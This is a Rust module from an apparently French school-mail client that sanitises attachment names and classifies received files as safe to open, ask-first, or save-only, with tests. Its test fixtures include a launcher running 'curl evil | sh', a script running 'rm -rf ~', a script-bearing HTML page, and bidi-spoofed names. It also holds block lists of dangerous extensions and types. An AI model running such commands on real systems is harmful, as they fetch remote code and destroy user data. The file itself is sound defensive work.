//! Received files: names made safe to show and to write to disk, what « Ouvrir » may do with a
//! file, and how a file reaches the disk (a temporary file, fsync, rename).
//!
//! Anyone a user may receive mail from can send any file under any name, so nothing here trusts
//! the ENT: a name may hide its real extension behind bidi controls, be longer than a file
//! system allows, or lie about the content. The decision to open is a pure function
//! ([`decide`]) of the name and the first bytes, tested as a table.

use std::path::{Path, PathBuf};

use serde::Serialize;

use crate::client::download::Download;

/// The longest file name ext4, btrfs, APFS and NTFS all accept (bytes of UTF-8; NTFS counts 255
/// UTF-16 units, which never hold fewer characters than 255 bytes of UTF-8).
pub const MAX_NAME_BYTES: usize = 255;

/// The largest file the app downloads: beyond it, the ENT's web page is the better tool (and a
/// school computer's disk may not hold it). Entcore's own default upload cap is far below.
pub const MAX_DOWNLOAD_BYTES: u64 = 2 * 1024 * 1024 * 1024;

/// Bytes read from the start of a file to recognise its type: enough for the zip entries that
/// tell a .docx from a .xlsx (`infer` looks up to ~6 kB in).
pub const SNIFF_BYTES: usize = 8192;

/// What a name becomes when nothing is left of it.
const FALLBACK_NAME: &str = "piece-jointe";

/// Characters that draw nothing or reorder what is drawn: control characters (Cc), the Unicode
/// format characters (Cf: bidi embeddings, overrides and isolates, zero-width spaces and
/// joiners, the byte-order mark, tags...), line and paragraph separators, and the fillers and
/// variation selectors that render as nothing.
pub fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c as u32,
            0x00AD                      // soft hyphen
            | 0x034F                    // combining grapheme joiner
            | 0x0600..=0x0605 | 0x061C | 0x06DD | 0x070F | 0x0890..=0x0891 | 0x08E2
            | 0x115F..=0x1160           // Hangul fillers
            | 0x17B4..=0x17B5
            | 0x180B..=0x180F           // Mongolian selectors and vowel separator
            | 0x200B..=0x200F           // zero-width space, joiners, LRM, RLM
            | 0x2028..=0x202E           // separators; LRE, RLE, PDF, LRO, RLO
            | 0x2060..=0x206F           // word joiner, invisible operators, LRI..PDI, ...
            | 0x3164 | 0xFFA0           // Hangul fillers
            | 0xFE00..=0xFE0F           // variation selectors
            | 0xFEFF                    // byte-order mark / zero-width no-break space
            | 0xFFF9..=0xFFFB           // interlinear annotations
            | 0x110BD | 0x110CD | 0x13430..=0x1343F | 0x1BCA0..=0x1BCA3 | 0x1D173..=0x1D17A
            | 0xE0000..=0xE0FFF         // tags and variation selectors supplement
        )
}

/// A name as the window shows it: without hidden characters (see [`is_hidden`]) and without
/// the spaces they may have left at either end.
pub fn display_name(raw: &str) -> String {
    let shown: String = raw.chars().filter(|c| !is_hidden(*c)).collect();
    let shown = shown.trim();
    if shown.is_empty() {
        FALLBACK_NAME.to_owned()
    } else {
        shown.to_owned()
    }
}

/// A name to write to disk on any platform: [`display_name`], without path separators or the
/// characters Windows refuses, never hidden (no leading dot) nor ending in a dot or a space
/// (Windows drops them), and at most [`MAX_NAME_BYTES`] bytes with its extension kept.
pub fn file_name(raw: &str) -> String {
    file_name_within(raw, MAX_NAME_BYTES)
}

/// [`file_name`] within `max_bytes` (a cache name leaves room for its prefix).
pub fn file_name_within(raw: &str, max_bytes: usize) -> String {
    let replaced: String = display_name(raw)
        .chars()
        .map(|c| match c {
            '/' | '\\' | ':' | '*' | '?' | '"' | '<' | '>' | '|' => '_',
            c => c,
        })
        .collect();
    let trimmed = replaced
        .trim_start_matches(['.', ' '])
        .trim_end_matches(['.', ' ']);
    let name = if trimmed.is_empty() {
        FALLBACK_NAME
    } else {
        trimmed
    };
    shorten(name, max_bytes)
}

/// The extension a file manager would go by (lowercase, without the dot), if the name has one.
pub fn extension(name: &str) -> Option<String> {
    let (stem, ext) = name.rsplit_once('.')?;
    (!stem.is_empty()
        && !ext.is_empty()
        && ext.len() <= 16
        && ext
            .chars()
            .all(|c| c.is_alphanumeric() || c == '_' || c == '-'))
    .then(|| ext.to_lowercase())
}

/// `name` cut to at most `max_bytes` bytes of UTF-8 on a character boundary, keeping its
/// extension (so the system still knows the type of what it opens).
pub fn shorten(name: &str, max_bytes: usize) -> String {
    if name.len() <= max_bytes {
        return name.to_owned();
    }
    let suffix = match extension(name) {
        // An extension taking half the room would leave no name: cut it as well.
        Some(ext) if ext.len() < max_bytes / 2 => &name[name.len() - ext.len() - 1..],
        _ => "",
    };
    let room = max_bytes.saturating_sub(suffix.len());
    let mut end = room.min(name.len() - suffix.len());
    while !name.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}{suffix}", name[..end].trim_end_matches(['.', ' ']))
}

/// What « Ouvrir » does with a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, ts_rs::TS)]
#[serde(rename_all = "camelCase")]
#[ts(export)]
pub enum Verdict {
    /// A document, image, audio, video or plain-text file whose content matches its name:
    /// handed to the system's viewer at once.
    Open,
    /// A document type whose content does not match its name: the window asks first, and
    /// offers « Enregistrer sous… »; it opens only if the user insists.
    Ask,
    /// Anything else (programs, launchers, scripts, web pages, unknown types): never handed to
    /// the system, even if the user insists; only « Enregistrer sous… ».
    SaveOnly,
}

/// Why the window asks, and what it shows.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, ts_rs::TS)]
#[serde(rename_all = "camelCase")]
#[ts(export)]
pub struct Decision {
    pub verdict: Verdict,
    /// The name without hidden characters.
    pub name: String,
    /// The extension the name claims (lowercase), if any.
    pub extension: Option<String>,
    /// The type the content shows (a MIME type), if recognised.
    pub detected: Option<String>,
    /// The content's type is not the one the name claims.
    pub mismatch: bool,
    /// The name or the content is a program, a launcher, a script or a web page.
    pub dangerous: bool,
}

/// Families of types the system may open directly: each has viewers that run nothing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Family {
    Pdf,
    /// Office Open XML (zip containers).
    Ooxml,
    /// Legacy Office (OLE compound files).
    Ole,
    OpenDocument,
    Rtf,
    Image,
    Media,
    Text,
}

/// The allow-list: extensions « Ouvrir » hands to the system when the content agrees. SVG is
/// not an image here: it is a web page that can carry scripts.
fn family(ext: &str) -> Option<Family> {
    use Family::*;
    Some(match ext {
        "pdf" => Pdf,
        "docx" | "xlsx" | "pptx" => Ooxml,
        "doc" | "xls" | "ppt" => Ole,
        "odt" | "ods" | "odp" | "odg" => OpenDocument,
        "rtf" => Rtf,
        "png" | "jpg" | "jpeg" | "gif" | "webp" | "bmp" | "tif" | "tiff" | "heic" | "heif"
        | "avif" => Image,
        "mp3" | "ogg" | "oga" | "opus" | "wav" | "flac" | "m4a" | "aac" | "mp4" | "m4v" | "mov"
        | "webm" | "mkv" | "avi" | "ogv" | "mpeg" | "mpg" => Media,
        "txt" | "csv" => Text,
        _ => return None,
    })
}

/// Extensions that run something when opened (programs, installers, scripts, launchers,
/// shortcuts, web pages and their archives): named so the window can say why, though anything
/// outside the allow-list is already never opened.
fn is_dangerous_extension(ext: &str) -> bool {
    matches!(
        ext,
        "desktop"
            | "kdelnk"
            | "sh"
            | "bash"
            | "zsh"
            | "csh"
            | "ksh"
            | "command"
            | "run"
            | "bin"
            | "appimage"
            | "flatpakref"
            | "flatpak"
            | "snap"
            | "deb"
            | "rpm"
            | "exe"
            | "com"
            | "scr"
            | "pif"
            | "bat"
            | "cmd"
            | "msi"
            | "msix"
            | "msp"
            | "appx"
            | "cpl"
            | "dll"
            | "sys"
            | "lnk"
            | "url"
            | "website"
            | "reg"
            | "inf"
            | "hta"
            | "js"
            | "jse"
            | "mjs"
            | "vbs"
            | "vbe"
            | "wsf"
            | "wsh"
            | "ws"
            | "ps1"
            | "psm1"
            | "psd1"
            | "jar"
            | "class"
            | "py"
            | "pyw"
            | "pl"
            | "rb"
            | "php"
            | "lua"
            | "apk"
            | "app"
            | "dmg"
            | "pkg"
            | "html"
            | "htm"
            | "xhtml"
            | "shtml"
            | "mht"
            | "mhtml"
            | "svg"
            | "svgz"
            | "xml"
            | "xsl"
            | "iso"
            | "img"
            | "vhd"
            | "vhdx"
            | "library-ms"
            | "searchms"
            | "settingcontent-ms"
            | "application"
            | "gadget"
            | "docm"
            | "xlsm"
            | "pptm"
            | "dotm"
            | "xltm"
            | "potm"
    )
}

/// What the first bytes say, beyond `infer`: launchers, scripts and web pages written as text,
/// and an ELF program however short (`infer` wants 53 bytes).
fn sniff_extra(head: &[u8]) -> Option<&'static str> {
    if head.starts_with(b"\x7fELF") {
        return Some("application/x-executable");
    }
    let start = head
        .iter()
        .position(|b| !b.is_ascii_whitespace())
        .map_or(&[][..], |i| &head[i..]);
    let starts = |prefix: &[u8]| {
        start.len() >= prefix.len() && start[..prefix.len()].eq_ignore_ascii_case(prefix)
    };
    if starts(b"#!") {
        Some("text/x-shellscript")
    } else if starts(b"[Desktop Entry]") {
        Some("application/x-desktop")
    } else if start.starts_with(b"<") && contains_ignore_case(start, b"<svg") {
        Some("image/svg+xml")
    } else if starts(b"<!doctype html") || starts(b"<html") || starts(b"<script") {
        Some("text/html")
    } else {
        None
    }
}

fn contains_ignore_case(haystack: &[u8], needle: &[u8]) -> bool {
    haystack
        .windows(needle.len())
        .any(|w| w.eq_ignore_ascii_case(needle))
}

/// A MIME type that runs something when handed to the system.
fn is_dangerous_type(mime: &str) -> bool {
    matches!(
        mime,
        "application/x-executable"
            | "application/vnd.microsoft.portable-executable"
            | "application/java"
            | "application/java-archive"
            | "application/x-mach-binary"
            | "application/vnd.android.dex"
            | "application/vnd.android.dey"
            | "application/vnd.android.package-archive"
            | "application/wasm"
            | "application/x-llvm"
            | "application/x-msdownload"
            | "application/vnd.ms-cab-compressed"
            | "application/vnd.debian.binary-package"
            | "application/x-rpm"
            | "application/x-shellscript"
            | "text/x-shellscript"
            | "application/x-desktop"
            | "text/html"
            | "text/xml"
            | "image/svg+xml"
    )
}

/// Whether content of type `detected` (None: not recognised) is what a file of `family` holds.
fn content_matches(family: Family, detected: Option<&str>, head: &[u8]) -> bool {
    let ole = head.starts_with(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    let zip = head.starts_with(b"PK\x03\x04");
    match (family, detected) {
        (Family::Pdf, Some(m)) => m == "application/pdf",
        (Family::Ooxml, _) => zip,
        (Family::Ole, _) => ole,
        (Family::OpenDocument, _) => zip,
        (Family::Rtf, Some(m)) => m == "application/rtf",
        (Family::Image, Some(m)) => m.starts_with("image/"),
        (Family::Media, Some(m)) => m.starts_with("audio/") || m.starts_with("video/"),
        // Plain text: nothing `infer` recognises, no NUL byte.
        (Family::Text, None) => !head.contains(&0),
        _ => false,
    }
}

/// What « Ouvrir » may do with a file named `name` (as the ENT gave it) whose content starts
/// with `head` (up to [`SNIFF_BYTES`]).
pub fn decide(name: &str, head: &[u8]) -> Decision {
    let name = display_name(name);
    let extension = extension(&name);
    let detected = sniff_extra(head)
        .map(str::to_owned)
        .or_else(|| infer::get(head).map(|t| t.mime_type().to_owned()));
    let family = extension.as_deref().and_then(family);
    let mismatch = family.is_some_and(|f| !content_matches(f, detected.as_deref(), head));
    let dangerous = extension.as_deref().is_some_and(is_dangerous_extension)
        || detected.as_deref().is_some_and(is_dangerous_type);
    let verdict = match family {
        _ if dangerous => Verdict::SaveOnly,
        Some(_) if !mismatch => Verdict::Open,
        Some(_) => Verdict::Ask,
        None => Verdict::SaveOnly,
    };
    Decision {
        verdict,
        name,
        extension,
        detected,
        mismatch,
        dangerous,
    }
}

/// Whether the app may hand the file to the system: at once for [`Verdict::Open`], after the
/// user insisted for [`Verdict::Ask`], never for [`Verdict::SaveOnly`].
pub fn may_open(verdict: Verdict, user_insisted: bool) -> bool {
    match verdict {
        Verdict::Open => true,
        Verdict::Ask => user_insisted,
        Verdict::SaveOnly => false,
    }
}

/// The first [`SNIFF_BYTES`] of a file.
pub fn read_head(path: &Path) -> std::io::Result<Vec<u8>> {
    use std::io::Read;
    let mut head = Vec::with_capacity(SNIFF_BYTES);
    std::fs::File::open(path)?
        .take(SNIFF_BYTES as u64)
        .read_to_end(&mut head)?;
    Ok(head)
}

/// How far a download is: bytes written and the size the ENT declared.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, ts_rs::TS)]
#[serde(rename_all = "camelCase")]
#[ts(export, rename = "DownloadProgress")]
pub struct Progress {
    #[ts(type = "number")]
    pub done: u64,
    #[ts(type = "number")]
    pub total: u64,
}

/// Receives download progress (at most about a hundred times per file).
pub type OnProgress<'a> = &'a (dyn Fn(Progress) + Send + Sync);

/// Writes a download to `target` through a temporary file beside it, checking the size as it
/// comes (`limit`, and `expected` bytes in the end when the ENT declared a size), flushed to
/// the disk before it takes its name. Nothing is left behind when it fails.
pub(crate) async fn stream_to_file(
    mut download: Download,
    target: &Path,
    expected: Option<u64>,
    limit: u64,
    on_progress: OnProgress<'_>,
) -> crate::Result<u64> {
    use tokio::io::AsyncWriteExt;
    let dir = target.parent().unwrap_or_else(|| Path::new("."));
    let tmp = temporary_path(dir);
    let file_error = |source| crate::Error::File {
        path: target.display().to_string(),
        source,
    };
    let total = expected.or(download.len()).unwrap_or(0);
    let step = (total / 100).max(256 * 1024);
    let result = async {
        let mut file = tokio::fs::File::create(&tmp).await.map_err(file_error)?;
        let (mut done, mut told) = (0u64, 0u64);
        on_progress(Progress { done, total });
        while let Some(chunk) = download.chunk().await? {
            done += chunk.len() as u64;
            if done > limit {
                return Err(crate::Error::TooLarge { size: done, limit });
            }
            file.write_all(&chunk).await.map_err(file_error)?;
            if done - told >= step {
                told = done;
                on_progress(Progress { done, total });
            }
        }
        if let Some(expected) = expected.filter(|e| *e != done) {
            return Err(crate::Error::Incomplete {
                got: done,
                expected,
            });
        }
        file.sync_all().await.map_err(file_error)?;
        drop(file);
        tokio::fs::rename(&tmp, target).await.map_err(file_error)?;
        on_progress(Progress { done, total: done });
        Ok(done)
    }
    .await;
    if result.is_err() {
        let _ = tokio::fs::remove_file(&tmp).await;
    } else {
        let marked = target.to_path_buf();
        let _ = tokio::task::spawn_blocking(move || mark_downloaded(&marked)).await;
    }
    result
}

/// Why a file the user picked cannot be attached.
#[derive(Debug, thiserror::Error)]
pub enum PickError {
    #[error("cannot read {path}")]
    Unreadable {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    /// A directory, a device (`/dev/zero`), a FIFO or a socket, or a link to one.
    #[error("{path} is not a regular file")]
    NotARegularFile { path: PathBuf },
}

/// The size of `path` if it is a regular file (links followed): a device such as `/dev/zero`
/// would never end, a FIFO could block for ever, a directory cannot be sent.
pub fn regular_file_size(path: &Path) -> Result<u64, PickError> {
    let meta = std::fs::metadata(path).map_err(|source| PickError::Unreadable {
        path: path.to_path_buf(),
        source,
    })?;
    if meta.is_file() {
        Ok(meta.len())
    } else {
        Err(PickError::NotARegularFile {
            path: path.to_path_buf(),
        })
    }
}

/// A file the user chose (native dialog, drop), as the window knows it: an opaque token and the
/// name to show. The window never sees nor sends a path: if it were ever compromised, it could
/// only attach what the user picked.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, ts_rs::TS)]
#[serde(rename_all = "camelCase")]
#[ts(export)]
pub struct Picked {
    pub token: String,
    pub name: String,
}

/// The files the user chose, by token; each token is good for one use.
#[derive(Debug, Default)]
pub struct PickedFiles {
    files: std::sync::Mutex<std::collections::HashMap<String, PathBuf>>,
}

impl PickedFiles {
    /// Remembers a chosen file and returns its token (random, unguessable).
    pub fn issue(&self, path: PathBuf) -> Picked {
        let token = uuid::Uuid::new_v4().to_string();
        let name = path.file_name().map_or_else(
            || FALLBACK_NAME.to_owned(),
            |n| display_name(&n.to_string_lossy()),
        );
        self.lock().insert(token.clone(), path);
        Picked { token, name }
    }

    /// The file behind a token, which is then spent; `None` for anything not issued.
    pub fn take(&self, token: &str) -> Option<PathBuf> {
        self.lock().remove(token)
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, std::collections::HashMap<String, PathBuf>> {
        // A panic elsewhere cannot leave the map half-written: insert and remove are atomic.
        self.files
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }
}

/// Copies `source` to `target` through a temporary file in the target's folder, flushed to
/// the disk before it takes the final name: a crash or a full disk never leaves half a file
/// under the chosen name. On Windows the copy carries the "downloaded from the Internet" mark.
pub fn save_copy(source: &Path, target: &Path) -> std::io::Result<()> {
    let dir = target.parent().unwrap_or_else(|| Path::new("."));
    let tmp = temporary_path(dir);
    let result = (|| {
        let mut from = std::fs::File::open(source)?;
        let mut to = std::fs::File::create(&tmp)?;
        std::io::copy(&mut from, &mut to)?;
        to.sync_all()?;
        drop(to);
        std::fs::rename(&tmp, target)
    })();
    if result.is_ok() {
        mark_downloaded(target);
    }
    if result.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    result
}

/// A fresh name for a temporary file in `dir`: hidden, and never one an attachment could take.
pub(crate) fn temporary_path(dir: &Path) -> PathBuf {
    dir.join(format!(".messagerie-{}.part", uuid::Uuid::new_v4()))
}

/// Marks a file as downloaded from the Internet (Windows' Mark of the Web: the `Zone.Identifier`
/// stream, zone 3), so that Office opens it in Protected View and SmartScreen checks it.
/// Nothing to do elsewhere. A volume without streams (FAT) cannot hold the mark: the file is
/// kept all the same, and the failure logged.
#[cfg(windows)]
pub fn mark_downloaded(path: &Path) {
    let mut stream = path.as_os_str().to_owned();
    stream.push(":Zone.Identifier");
    if let Err(error) = std::fs::write(PathBuf::from(stream), b"[ZoneTransfer]\r\nZoneId=3\r\n") {
        tracing::warn!(%error, "cannot mark a saved file as downloaded from the Internet");
    }
}

/// Marks a file as downloaded from the Internet (Windows only; nothing to do elsewhere).
#[cfg(not(windows))]
pub fn mark_downloaded(_path: &Path) {}

/// The type an attachment is uploaded with, from its name's extension (what the ENT's own
/// client sends for common school files; anything else is `application/octet-stream`).
pub fn content_type(name: &str) -> &'static str {
    let ext = name
        .rsplit('.')
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    match ext.as_str() {
        "pdf" => "application/pdf",
        "png" => "image/png",
        "jpg" | "jpeg" => "image/jpeg",
        "gif" => "image/gif",
        "txt" => "text/plain",
        "odt" => "application/vnd.oasis.opendocument.text",
        "docx" => "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "zip" => "application/zip",
        _ => "application/octet-stream",
    }
}

/// A size in French: « 8 octets », « 1 octet », « 1,5 Mo » (powers of 1024, a decimal comma).
/// Under 1 ko the exact count in words: « 0 ko » or « 8 o » would hide a tiny file.
pub fn human_size(bytes: u64) -> String {
    const UNITS: [&str; 4] = ["octets", "ko", "Mo", "Go"];
    let mut value = bytes as f64;
    let mut unit = 0;
    while value >= 1024.0 && unit < UNITS.len() - 1 {
        value /= 1024.0;
        unit += 1;
    }
    if unit == 0 {
        // French takes the singular for 0 and 1.
        let word = if bytes < 2 { "octet" } else { "octets" };
        format!("{bytes} {word}")
    } else {
        format!("{value:.1} {}", UNITS[unit]).replace('.', ",")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PDF: &[u8] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj";
    const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";
    const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
    const PE: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0";
    const ZIP: &[u8] = b"PK\x03\x04\x14\0\0\0\x08\0";
    const OLE: &[u8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0\0\0";
    const TEXT: &[u8] = "Bonjour,\nvoici la liste des élèves.\n".as_bytes();
    const DESKTOP: &[u8] = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n";
    const SCRIPT: &[u8] = b"#!/bin/sh\nrm -rf ~\n";
    const HTML: &[u8] = b"<!DOCTYPE html><html><script>alert(1)</script>";
    const SVG: &[u8] = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\">";

    #[test]
    fn open_is_decided_by_name_and_content_as_the_table_says() {
        use Verdict::*;
        let table: &[(&str, &[u8], Verdict)] = &[
            // Documents and images whose content agrees: opened at once.
            ("devoir.pdf", PDF, Open),
            ("photo.PNG", PNG, Open),
            ("notes.txt", TEXT, Open),
            ("classe.csv", TEXT, Open),
            ("lettre.docx", ZIP, Open),
            ("tableau.xls", OLE, Open),
            ("compte-rendu.odt", ZIP, Open),
            ("chanson.mp3", b"ID3\x03\0\0\0\0\0\0", Open),
            // A document name on other content: asked first.
            ("devoir.pdf", PNG, Ask),
            ("photo.jpg", PDF, Ask),
            ("lettre.docx", PDF, Ask),
            ("notes.txt", PDF, Ask),
            ("notes.txt", b"\0\0\0binary", Ask),
            // Programs, launchers, scripts and web pages: never opened, whatever the content.
            ("lancer.desktop", DESKTOP, SaveOnly),
            ("lancer.desktop", TEXT, SaveOnly),
            ("install.sh", SCRIPT, SaveOnly),
            ("jeu.exe", PE, SaveOnly),
            ("jeu.bat", TEXT, SaveOnly),
            ("jeu.cmd", TEXT, SaveOnly),
            ("jeu.jar", ZIP, SaveOnly),
            ("virus.js", TEXT, SaveOnly),
            ("virus.vbs", TEXT, SaveOnly),
            ("setup.msi", OLE, SaveOnly),
            ("script.ps1", TEXT, SaveOnly),
            ("page.html", HTML, SaveOnly),
            ("page.htm", HTML, SaveOnly),
            ("logo.svg", SVG, SaveOnly),
            ("raccourci.lnk", b"L\0\0\0\x01\x14\x02\0", SaveOnly),
            ("appli.AppImage", ELF, SaveOnly),
            // A document name on a program's content: never opened either.
            ("devoir.pdf", ELF, SaveOnly),
            ("devoir.pdf", PE, SaveOnly),
            ("notes.txt", DESKTOP, SaveOnly),
            ("notes.txt", SCRIPT, SaveOnly),
            ("notes.txt", HTML, SaveOnly),
            ("photo.png", SVG, SaveOnly),
            // Unknown or missing extensions: not opened.
            ("archive.zip", ZIP, SaveOnly),
            ("donnees.xyz", TEXT, SaveOnly),
            ("LISEZMOI", TEXT, SaveOnly),
            // The extension is the last one, once hidden characters are gone.
            ("devoir_\u{202E}fdp.exe", PE, SaveOnly),
            ("devoir.pdf\u{200B}.exe", PDF, SaveOnly),
        ];
        for (name, head, expected) in table {
            let decision = decide(name, head);
            assert_eq!(decision.verdict, *expected, "{name:?}: {decision:?}");
        }
    }

    #[test]
    fn the_decision_shows_the_real_name_extension_and_detected_type() {
        let decision = decide("devoir_\u{202E}fdp.exe", PE);

        assert_eq!(decision.name, "devoir_fdp.exe");
        assert_eq!(decision.extension.as_deref(), Some("exe"));
        assert_eq!(
            decision.detected.as_deref(),
            Some("application/vnd.microsoft.portable-executable")
        );
        assert!(decision.dangerous);
    }

    #[test]
    fn insisting_opens_a_mismatched_document_but_never_a_program() {
        assert!(may_open(Verdict::Open, false));
        assert!(!may_open(Verdict::Ask, false));
        assert!(may_open(Verdict::Ask, true));
        assert!(!may_open(Verdict::SaveOnly, true));
    }

    #[test]
    fn bidi_controls_and_invisible_characters_are_stripped_from_names() {
        for hidden in [
            '\u{202A}',
            '\u{202B}',
            '\u{202C}',
            '\u{202D}',
            '\u{202E}',
            '\u{2066}',
            '\u{2067}',
            '\u{2068}',
            '\u{2069}',
            '\u{200E}',
            '\u{200F}',
            '\u{061C}',
            '\u{200B}',
            '\u{200D}',
            '\u{FEFF}',
            '\u{00AD}',
            '\u{2060}',
            '\u{E0041}',
            '\u{0007}',
            '\u{007F}',
            '\u{0085}',
            '\n',
            '\t',
        ] {
            let name = format!("devoir{hidden}.pdf");
            assert_eq!(display_name(&name), "devoir.pdf", "U+{:04X}", hidden as u32);
        }
        assert_eq!(display_name("  \u{202E}  "), "piece-jointe");
        // Letters of every script stay.
        assert_eq!(display_name("élève_日本_عربي.pdf"), "élève_日本_عربي.pdf");
    }

    #[test]
    fn file_names_lose_separators_and_reserved_characters() {
        assert_eq!(file_name("../../.bashrc"), "_.._.bashrc");
        assert_eq!(file_name(".bashrc"), "bashrc");
        assert_eq!(
            file_name("a/b\\c:d*e?f\"g<h>i|j.txt"),
            "a_b_c_d_e_f_g_h_i_j.txt"
        );
        assert_eq!(file_name("notes. . "), "notes");
        assert_eq!(file_name("..."), "piece-jointe");
    }

    #[test]
    fn long_names_are_cut_on_a_character_boundary_keeping_the_extension() {
        let long = format!("{}.pdf", "é".repeat(200)); // 404 bytes

        let short = file_name(&long);

        assert!(short.len() <= MAX_NAME_BYTES, "{}", short.len());
        assert!(short.ends_with("é.pdf"), "{short}");
        assert_eq!(shorten("court.pdf", 255), "court.pdf");
        assert_eq!(shorten("abcdef.pdf", 8), "abcd.pdf");
        // An absurd extension is cut too: the name stays within bounds.
        let ext = format!("a.{}", "x".repeat(300));
        assert!(file_name(&ext).len() <= MAX_NAME_BYTES);
    }

    #[test]
    fn sizes_read_in_french_and_a_small_file_in_octets_not_0_ko() {
        assert_eq!(human_size(8), "8 octets");
        assert_eq!(human_size(1), "1 octet");
        assert_eq!(human_size(0), "0 octet");
        assert_eq!(human_size(512), "512 octets");
        assert_eq!(human_size(1023), "1023 octets");
        assert_eq!(human_size(1024), "1,0 ko");
        assert_eq!(human_size(1536), "1,5 ko");
        assert_eq!(human_size(2 * 1024 * 1024 * 1024), "2,0 Go");
    }

    #[test]
    fn extensions_are_the_last_dotted_word_lowercased() {
        assert_eq!(extension("Devoir.PDF").as_deref(), Some("pdf"));
        assert_eq!(extension("archive.tar.gz").as_deref(), Some("gz"));
        assert_eq!(extension(".bashrc"), None);
        assert_eq!(extension("LISEZMOI"), None);
        assert_eq!(extension("fin."), None);
    }

    #[test]
    fn only_regular_files_can_be_picked() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("devoir.pdf");
        std::fs::write(&file, PDF).unwrap();

        assert_eq!(regular_file_size(&file).unwrap(), PDF.len() as u64);
        assert!(matches!(
            regular_file_size(dir.path()),
            Err(PickError::NotARegularFile { .. })
        ));
        #[cfg(unix)]
        {
            assert!(matches!(
                regular_file_size(Path::new("/dev/zero")),
                Err(PickError::NotARegularFile { .. })
            ));
            let link = dir.path().join("zero.pdf");
            std::os::unix::fs::symlink("/dev/zero", &link).unwrap();
            assert!(matches!(
                regular_file_size(&link),
                Err(PickError::NotARegularFile { .. })
            ));
        }
    }

    #[test]
    fn a_token_stands_for_one_picked_file_once_and_a_path_is_no_token() {
        let picked = PickedFiles::default();
        let file = PathBuf::from("/home/marie/devoir.pdf");

        let chosen = picked.issue(file.clone());

        assert_eq!(chosen.name, "devoir.pdf");
        assert_eq!(picked.take("/home/marie/.ssh/id_rsa"), None);
        assert_eq!(picked.take(&file.display().to_string()), None);
        assert_eq!(picked.take(&chosen.token), Some(file));
        assert_eq!(picked.take(&chosen.token), None);
    }

    #[cfg(windows)]
    #[test]
    fn a_saved_copy_carries_the_mark_of_the_web() {
        let dir = tempfile::tempdir().unwrap();
        let (source, target) = (dir.path().join("cache"), dir.path().join("copie.pdf"));
        std::fs::write(&source, PDF).unwrap();

        save_copy(&source, &target).unwrap();

        let mut stream = target.as_os_str().to_owned();
        stream.push(":Zone.Identifier");
        let mark = std::fs::read_to_string(PathBuf::from(stream)).unwrap();
        assert!(mark.contains("ZoneId=3"), "{mark}");
    }

    #[test]
    fn a_saved_copy_appears_whole_under_its_name_and_leaves_no_temporary_file() {
        let dir = tempfile::tempdir().unwrap();
        let (source, target) = (
            dir.path().join("cache"),
            dir.path().join("out").join("copie.pdf"),
        );
        std::fs::create_dir(dir.path().join("out")).unwrap();
        std::fs::write(&source, PDF).unwrap();

        save_copy(&source, &target).unwrap();

        assert_eq!(std::fs::read(&target).unwrap(), PDF);
        let names: Vec<_> = std::fs::read_dir(dir.path().join("out"))
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(names, vec![std::ffi::OsString::from("copie.pdf")]);
    }
}
